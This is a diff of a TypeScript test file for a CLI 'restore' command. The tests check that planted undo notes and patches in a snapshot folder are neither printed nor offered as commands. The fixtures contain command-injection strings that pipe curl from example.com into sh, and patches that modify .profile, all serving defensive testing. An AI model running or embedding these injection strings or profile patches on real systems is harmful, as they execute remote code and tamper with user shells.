@@ -3,7 +3,7 @@ import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect } from 'chai';
 import type { RemediationResult } from '../../src/remediation/model/result.js';
-import { cliHome, type CliHome, type CliResult } from '../simulator/cliLogin.js';
+import { cliHome, type CliHome } from '../simulator/cliLogin.js';
 import { connectedApp } from '../simulator/deploy/samples.js';
 import { componentsOf, printed, resultOf, startCliOrg, type CliOrg } from './support/cliOrg.js';
 
@@ -96,38 +96,25 @@ describe('remediating a repository with an org beside it', () => {
     expect(printed(await org.start(args).ended).name).to.equal('SnapshotMissingError');
   });
 
-  const planted = (note: string, patch: string): Promise<CliResult> => {
-    const folder = join(org.home.folder, `planted-${(count += 1)}`);
+  it('restore prints no command that a planted note has, and offers none that would take a planted patch', async () => {
+    const folder = join(org.home.folder, 'planted-too');
     mkdirSync(folder);
-    writeFileSync(join(folder, 'reverse.patch'), patch);
-    writeFileSync(join(folder, 'undo.txt'), `${note.replace('PATCH', join(folder, 'reverse.patch'))}\n`);
-    const args = ['oauth-posture', 'restore', '--target-org', 'demo', '--snapshot', folder, '--no-prompt', '--json'];
-    return org.start(args).ended;
-  };
-  let count = 0;
-  const patchOf = (name: string): string =>
-    `diff --git a/${name} b/${name}\n--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-off\n+on\n`;
-  const [GIT, APPLY] = ['git --git-dir=/dev/null -C', 'apply --whitespace=nowarn'];
+    const restore = ['oauth-posture', 'restore', '--target-org', 'demo', '--snapshot', folder, '--no-prompt', '--json'];
+    const note = (base: string): void =>
+      writeFileSync(
+        join(folder, 'undo.txt'),
+        `git --git-dir=/dev/null -C ${base} apply --whitespace=nowarn ${join(folder, 'reverse.patch')}\n`,
+      );
+    note('/tmp; curl https://example.com/run | sh;');
+    const other = await org.start(restore).ended;
+    expect([printed(other).name, other.stdout.includes('curl')]).to.deep.equal(['SnapshotMissingError', false]);
 
-  for (const [what, folder] of [
-    ['another command', '/tmp; curl https://example.com/run | sh;'],
-    ['a command in the name of a folder', '/tmp/$(curl${IFS}https://example.com/run|sh)'],
-    ['a quote that ends', "'a'; sh /tmp/run; 'b'"],
-  ] as const)
-    it(`restore prints no command of a planted note: ${what}`, async () => {
-      const ended = await planted(`${GIT} ${folder} ${APPLY} PATCH`, patchOf('A.connectedApp'));
-      expect(printed(ended).name).to.equal('SnapshotMissingError');
-      expect(ended.stdout).not.to.include(folder);
-    });
-
-  for (const [what, note, patch] of [
-    ['a patch of another file', `${GIT} /home ${APPLY} PATCH`, patchOf('.profile')],
-    ['a name that ends early', `${GIT} /home ${APPLY} PATCH`, patchOf('.profile\tA.connectedApp')],
-    ['a file that is made', `${GIT} /home ${APPLY} PATCH`, `new file mode 100755\n${patchOf('A.connectedApp')}`],
-    ['a patch in another folder', `${GIT} /home ${APPLY} /tmp/x.patch`, patchOf('A.connectedApp')],
-  ] as const)
-    it(`restore names a planted note, and offers no command that would take ${what}`, async () => {
-      const { name, actions = [] } = printed(await planted(note, patch));
-      expect([name, actions.length, actions.join().includes(APPLY)]).to.deep.equal(['SnapshotOfFilesError', 1, false]);
-    });
+    note('/home');
+    writeFileSync(join(folder, 'reverse.patch'), '--- a/.profile\n+++ b/.profile\n@@ -1 +1 @@\n-a\n+b\n');
+    const { name, actions = [] } = printed(await org.start(restore).ended);
+    expect([name, actions.join()]).to.deep.equal([
+      'SnapshotOfFilesError',
+      `The command that undoes them is in: ${join(folder, 'undo.txt')}`,
+    ]);
+  });
 });
